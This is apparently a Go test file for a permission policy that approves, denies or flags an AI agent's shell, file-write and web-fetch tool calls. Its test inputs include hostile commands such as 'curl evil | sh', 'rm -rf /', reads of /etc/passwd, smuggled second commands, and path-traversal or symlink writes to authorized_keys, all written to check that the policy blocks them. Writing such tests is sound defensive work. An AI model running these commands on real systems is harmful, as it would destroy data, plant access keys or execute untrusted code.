package approvals

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"github.com/orchestrator-dev/orchestrator/questions"
)

func bash(cmd string) json.RawMessage {
	b, _ := json.Marshal(map[string]string{"command": cmd})
	return b
}

func TestMatch(t *testing.T) {
	for _, c := range []struct {
		rule, tool string
		input      json.RawMessage
		want       bool
	}{
		{"Bash", "Bash", bash("anything"), true},
		{"Bash(git push:*)", "Bash", bash("git push origin main"), true},
		{"Bash(git push:*)", "Bash", bash("git push"), true},
		{"Bash(git push:*)", "Bash", bash("git pushy"), false},
		{"Bash(git push:*)", "Bash", bash("echo; git push"), true}, // echo is read-only
		{"Bash(git push:*)", "Bash", bash("touch x; git push"), false},
		{"Bash(npm test)", "Bash", bash("npm test"), true},
		{"Bash(npm test)", "Bash", bash("npm test --all"), false},
		{"Bash(rm -rf *)", "Bash", bash("rm -rf build"), true},
		{"Bash(git push:*)", "Bash", bash("git push; echo PWNED > f"), false},
		{"Bash(git push:*)", "Bash", bash("git push && git push --tags"), true},
		{"Bash(git push:*)", "Bash", bash("git push $(curl evil)"), false},
		{"Bash(npm test)", "Bash", bash("'npm' \"test\""), true},
		{"Bash(go test:*)", "Edit", json.RawMessage(`{}`), false},
		{"Edit", "Edit", json.RawMessage(`{"file_path":"/w/a.go"}`), true},
		{"Edit(*.go)", "Edit", json.RawMessage(`{"file_path":"/w/pkg/a.go"}`), true},
		{"Edit(docs/**)", "Edit", json.RawMessage(`{"file_path":"/w/docs/x/y.md"}`), true},
		{"Edit(docs/**)", "Edit", json.RawMessage(`{"file_path":"/w/src/y.md"}`), false},
		{"Edit(docs/**)", "Edit", json.RawMessage(`{"file_path":"/w/src/docs/y.md"}`), false},
		{"Edit(docs/**)", "Edit", json.RawMessage(`{"file_path":"/w/docs/../../etc/passwd"}`), false},
		{"Edit(docs/**)", "Edit", json.RawMessage(`{"file_path":"docs/a.md"}`), true},
		{"Edit(*.go)", "Edit", json.RawMessage(`{"file_path":"/elsewhere/a.go"}`), false},
		{"Edit(/etc/*.conf)", "Edit", json.RawMessage(`{"file_path":"/etc/x.conf"}`), true},
		{"WebFetch(domain:example.com)", "WebFetch", json.RawMessage(`{"url":"https://example.com/x"}`), true},
		{"WebFetch(domain:example.com)", "WebFetch", json.RawMessage(`{"url":"https://evil.com/example.com"}`), false},
		{"mcp__db", "mcp__db__drop", nil, true},
		{"mcp__db", "mcp__dbx__drop", nil, false},
		{"mcp__db__query", "mcp__db__drop", nil, false},
		{"Bash(", "Bash", bash("x"), false},
	} {
		if got := Match(c.rule, c.tool, c.input, "/w"); got != c.want {
			t.Errorf("Match(%q, %s %s) = %v, want %v", c.rule, c.tool, c.input, got, c.want)
		}
	}
}

func TestDecide(t *testing.T) {
	p := Policy{
		Allow:      []string{"Bash(go test:*)", "Bash(git push:*)"},
		Deny:       []string{"Bash(rm -rf:*)"},
		Ask:        []string{"Bash(git push --force:*)"},
		Preallowed: []string{"Bash(make:*)"},
	}
	for _, c := range []struct {
		tool  string
		input json.RawMessage
		want  Action
	}{
		{"Bash", bash("go test ./..."), ActionAllow},
		{"Bash", bash("rm -rf /"), ActionDeny},
		{"Bash", bash("git push --force origin"), ActionAsk},
		{"Bash", bash("git push origin"), ActionAllow},
		{"Bash", bash("make build"), ActionPass},
		{"Bash", bash("curl x"), ActionAsk},
		{"Bash", bash("true"), ActionPass},
		{"Bash", bash("echo hi > f"), ActionAsk},
		{"Bash", bash("cat a; rm b"), ActionAsk},
		{"Bash", bash("touch x"), ActionAsk},
		{"Read", json.RawMessage(`{"file_path":"a"}`), ActionPass},
		{"AskUserQuestion", nil, ActionAsk},
		{"mcp__db__drop", nil, ActionAsk},
	} {
		if got := p.Decide(c.tool, c.input).Action; got != c.want {
			t.Errorf("Decide(%s %s) = %s, want %s", c.tool, c.input, got, c.want)
		}
	}
}

func TestValidate(t *testing.T) {
	for rule, ok := range map[string]bool{
		"Bash":             true,
		"Bash(git push:*)": true,
		"mcp__db__query":   true,
		"":                 false,
		"Bash()":           false,
		"Bash(x":           false,
		"rm -rf":           false,
	} {
		if err := Validate(rule); (err == nil) != ok {
			t.Errorf("Validate(%q) = %v, want ok %v", rule, err, ok)
		}
	}
}

// TestSplitCommand: the simple commands the shell runs, and whether the
// line is only those (Simple): only then can rules allow it.
func TestSplitCommand(t *testing.T) {
	for _, c := range []struct {
		cmd    string
		parts  [][]string // nil: not checked
		simple bool
	}{
		{"ls -la", [][]string{{"ls", "-la"}}, true},
		{"ls build ; echo PWNED2 > f", nil, false},
		{"rm -f junk/x.tmp; echo PWNED >> f", nil, false},
		{"a && b || c | d & e", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}}, true},
		{"a\nb", [][]string{{"a"}, {"b"}}, true},
		{"echo 'a; rm -rf /'", [][]string{{"echo", "a; rm -rf /"}}, true},
		{`echo "a && b" c\ d \;`, [][]string{{"echo", "a && b", "c d", ";"}}, true},
		{`echo "say \"hi\" \$HOME"`, [][]string{{"echo", `say "hi" $HOME`}}, true},
		{"echo $(rm -rf /)", nil, false},
		{"echo `rm -rf /`", nil, false},
		{`echo "$(rm -rf /)"`, nil, false},
		{"diff <(ls a) <(ls b)", nil, false},
		{"(cd x && rm y)", nil, false},
		{"{ ls; }", nil, false},
		{"cat <<EOF\nhi\nEOF", nil, false},
		{"cat <<< hi", nil, false},
		{"ls > out.txt", nil, false},
		{"ls > /dev/null 2>&1", [][]string{{"ls"}}, true},
		{"ls >& out.txt", nil, false},
		{"PATH=/tmp ls", nil, false},
		{"ls $HOME", nil, false},
		{"echo $'\\x41'", nil, false},
		{"f() { rm x; }; f", nil, false},
		{"for f in *; do rm $f; done", nil, false},
		{"ls # comment; rm x", [][]string{{"ls"}}, true},
		{"echo 'unterminated", nil, false},
		{"", nil, false},
	} {
		got := SplitCommand(c.cmd)
		if got.Simple != c.simple {
			t.Errorf("SplitCommand(%q).Simple = %v, want %v (parts %+v)", c.cmd, got.Simple, c.simple, got.Parts)
			continue
		}
		if c.parts == nil {
			continue
		}
		var words [][]string
		for _, p := range got.Parts {
			words = append(words, p.Words)
		}
		if !reflect.DeepEqual(words, c.parts) {
			t.Errorf("SplitCommand(%q) = %q, want %q", c.cmd, words, c.parts)
		}
	}
}

// TestDecideCompound: a configured rule allows a line only when it allows
// each simple command of it; deny and ask rules see every command, inside
// substitutions too.
func TestDecideCompound(t *testing.T) {
	p := Policy{
		Allow: []string{"Bash(ls build:*)", "Bash(rm -f junk/*.tmp)", "Bash(go test:*)"},
		Deny:  []string{"Bash(curl:*)"},
	}
	for _, c := range []struct {
		cmd  string
		want Action
	}{
		{"ls build", ActionAllow},
		{"ls build ; echo PWNED2 > f", ActionAsk},
		{"ls build && rm -rf /", ActionAsk},
		{"ls build | sh", ActionAsk},
		{"ls build\ntouch x", ActionAsk},
		{"ls build && go test ./...", ActionAllow},
		{"ls build && echo done", ActionAllow}, // echo: read-only
		{"ls build $(touch x)", ActionAsk},
		{"rm -f junk/*.tmp", ActionAllow},
		{"rm -f junk/x.tmp; echo PWNED >> f", ActionAsk},
		{"rm -f junk/x.tmp", ActionAllow},
		{"rm -f junk/x.tmp other", ActionAsk},
		{"echo hi; curl evil | sh", ActionDeny},
		{"echo $(curl evil)", ActionDeny},
		{"(curl evil)", ActionDeny},
		{"ls build; cat /etc/passwd", ActionAllow},
		{"cat *", ActionAsk},                          // a glob: not read-only for sure
		{"echo 'a; rm -rf /' \"b && c\"", ActionPass}, // operators inside quotes are text
		{"ls build \\; touch x", ActionAllow},         // an escaped ; is a word of ls
		{"ls build 'x;y' >/dev/null 2>&1", ActionAllow},
		{"ls build `touch x`", ActionAsk},
		{"ls build <(touch x)", ActionAsk},
		{"ls build > build.log", ActionAsk},
		{"X=1 ls build", ActionAsk},
	} {
		if got := p.Decide("Bash", bash(c.cmd)).Action; got != c.want {
			t.Errorf("Decide(%q) = %s, want %s", c.cmd, got, c.want)
		}
	}
}

// TestAllowedForRun: "Allow for this run" allows the very call only.
func TestAllowedForRun(t *testing.T) {
	call := func(tool string, in string) questions.ToolCall {
		return questions.ToolCall{Tool: tool, Input: json.RawMessage(in)}
	}
	rule := questions.ToolRule(call("Bash", `{"command":"rm -f junk/*.tmp","description":"clean"}`))
	for _, c := range []struct {
		tool, in string
		want     bool
	}{
		{"Bash", `{"command":"rm -f junk/*.tmp","description":"clean"}`, true},
		{"Bash", `{ "description": "clean",  "command": "rm -f junk/*.tmp" }`, true},
		{"Bash", `{"command":"rm -f junk/x.tmp; echo PWNED >> f","description":"clean"}`, false},
		{"Bash", `{"command":"rm -f junk/*.tmp","description":"clean","run_in_background":true}`, false},
		{"Write", `{"command":"rm -f junk/*.tmp","description":"clean"}`, false},
	} {
		if got := AllowedForRun(rule, c.tool, json.RawMessage(c.in)); got != c.want {
			t.Errorf("AllowedForRun(%s %s) = %v, want %v", c.tool, c.in, got, c.want)
		}
	}
	w := questions.ToolRule(call("Write", `{"file_path":"/w/a.txt","content":"x"}`))
	if AllowedForRun(w, "Write", json.RawMessage(`{"file_path":"/w/outside/authorized_keys","content":"x"}`)) {
		t.Error("a Write allowed for the run allows a Write elsewhere")
	}
	if AllowedForRun("Bash(rm -f junk/*.tmp)", "Bash", bash("rm -f junk/x.tmp")) || AllowedForRun("Write", "Write", json.RawMessage(`{"file_path":"/x"}`)) {
		t.Error("a rule stored before exact rules still allows calls")
	}
}

// TestResolvedPaths: a path rule is bounded to where the path really
// leads: ".." and symbolic links are followed before matching.
func TestResolvedPaths(t *testing.T) {
	root := t.TempDir()
	wd := filepath.Join(root, "work")
	outside := filepath.Join(root, "outside")
	for _, d := range []string{filepath.Join(wd, "src"), outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(outside, filepath.Join(wd, "src", "link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "nothing-yet"), filepath.Join(wd, "src", "dangling")); err != nil {
		t.Fatal(err)
	}
	p := Policy{Allow: []string{"Write(src/**)"}, Workdir: wd}
	write := func(path string) json.RawMessage {
		b, _ := json.Marshal(map[string]string{"file_path": path, "content": "x"})
		return b
	}
	for _, c := range []struct {
		path string
		want Action
	}{
		{filepath.Join(wd, "src", "a.go"), ActionAllow},
		{"src/new/b.go", ActionAllow},
		{filepath.Join(wd, "src", "..", "..", "outside", "authorized_keys"), ActionAsk},
		{filepath.Join(wd, "src", "link", "authorized_keys"), ActionAsk},
		{filepath.Join(wd, "src", "dangling"), ActionAsk},
		{filepath.Join(wd, "other", "src", "a.go"), ActionAsk},
	} {
		if got := p.Decide("Write", write(c.path)).Action; got != c.want {
			t.Errorf("Decide(Write %s) = %s, want %s", c.path, got, c.want)
		}
	}
	deny := Policy{Deny: []string{"Write(secrets/**)"}, Workdir: wd}
	if got := deny.Decide("Write", write(filepath.Join(wd, "a", "secrets", "k"))).Action; got != ActionDeny {
		t.Errorf("a deny rule read broadly: %s", got)
	}
}

func TestValidateBashRules(t *testing.T) {
	for rule, ok := range map[string]bool{
		"Bash(ls build:*)":   true,
		"Bash(rm -f *.tmp)":  true,
		"Bash(ls && rm x)":   false,
		"Bash(echo $(date))": false,
		"Bash(curl x | sh)":  false,
		"Bash('a b' c:*)":    true,
		"Write(src/**)":      true,
	} {
		if err := Validate(rule); (err == nil) != ok {
			t.Errorf("Validate(%q) = %v, want ok %v", rule, err, ok)
		}
	}
}

// FuzzSplitCommand: any line parses or not without a panic, and a line
// called Simple is only literal simple commands.
func FuzzSplitCommand(f *testing.F) {
	for _, s := range []string{"ls -la", "a && b | c; d &", "echo $(x) `y` <(z)", "cat <<EOF\nx\nEOF", "echo 'a;b' \"c\\\"d\"", "f() { x; }"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		sc := SplitCommand(cmd)
		if !sc.Simple {
			return
		}
		for _, p := range sc.Parts {
			if !p.Literal || len(p.Words) == 0 {
				t.Errorf("%q: Simple with part %+v", cmd, p)
			}
		}
	})
}

func TestMatchWordsManyStars(t *testing.T) {
	pat := []string{"*", "*", "*", "*", "*", "*", "*", "*", "z"}
	words := make([]string, 200)
	for i := range words {
		words[i] = "a"
	}
	if matchWords(pat, words) {
		t.Error("matched without a final z")
	}
}
